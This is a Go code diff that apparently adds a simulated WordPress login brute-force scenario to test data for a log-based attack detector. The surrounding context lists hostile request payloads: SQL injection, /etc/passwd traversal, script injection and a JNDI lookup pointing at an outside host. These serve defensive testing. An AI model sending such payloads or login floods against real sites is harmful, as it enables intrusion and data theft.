@@ -254,6 +254,13 @@ var stopped = []struct {
 				"-", fmt.Sprintf("Mozilla/5.0 (Windows NT 6.%d; rv:%d.0) Gecko/20100101 Firefox/%d.0", i%4, i, i))
 		}
 	}},
+	{"form-openers", "three hundred addresses open the form of WordPress before each guess", func(l *accessLog) {
+		for i := range 300 {
+			addr := fmt.Sprintf("%d.%d.113.73", 20+i%200, 1+i/200)
+			l.line(float64(i)*300, addr, "GET", "/wp-login.php", 200, 4300, "-", chrome)
+			l.line(float64(i)*300+1, addr, "POST", "/wp-login.php", 200, 4500, "-", chrome)
+		}
+	}},
 	{"injections", "one address tries attacks on parameters of existing pages", func(l *accessLog) {
 		words := []string{"1+UNION+SELECT+1,2,3", "..%2F..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C/script%3E",
 			"1%27+or+%271%27=%271", "${jndi:ldap://192.0.2.9/a}", "sleep(5)"}
